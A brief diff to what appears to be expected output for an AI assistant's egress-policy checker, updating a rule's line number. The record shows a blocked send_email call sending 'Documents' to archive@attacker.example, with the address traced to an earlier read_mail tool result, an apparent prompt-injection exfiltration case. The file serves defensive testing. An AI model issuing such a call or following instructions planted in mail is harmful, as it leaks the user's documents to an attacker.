@@ -2,7 +2,7 @@
 
     block    send_email(to=["archive@attacker.example"], subject="Documents", …
              host 'attacker.example' is not on the egress allowlist
-             rule egress_allowlist, policies/assistant.yaml:26
+             rule egress_allowlist, policies/assistant.yaml:28
              to[0] = attacker.example, first seen in tool read_mail (call_1)
 
 Long values are cut with an ellipsis; reasons, rules and answers are whole.
